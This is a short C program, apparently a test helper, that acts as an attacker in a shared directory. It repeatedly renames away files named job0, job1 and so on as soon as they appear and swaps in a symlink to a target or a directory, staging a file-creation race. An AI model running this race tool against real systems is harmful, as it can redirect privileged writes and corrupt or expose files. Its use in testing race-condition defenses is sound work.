/*
 * An attacker who may write in a directory where somebody else makes job0, job1,
 * ...: takes each away the moment it appears, and puts a link to `target` or a
 * directory of another in its place.
 *
 *   swapper DIRECTORY TARGET ROUNDS
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

int
main (int argc, char **argv)
{
	if (argc != 4 || chdir (argv[1]) < 0)
		return 2;
	for (int i = 0; i < atoi (argv[3]); i++) {
		char name[32], away[32];
		snprintf (name, sizeof name, "job%d", i);
		snprintf (away, sizeof away, "away%d", i);
		while (rename (name, away) < 0)
			if (errno != ENOENT)
				return 1;
		if (i % 2 ? symlink (argv[2], name) : mkdir (name, 0700))
			return 1;
	}
	return 0;
}
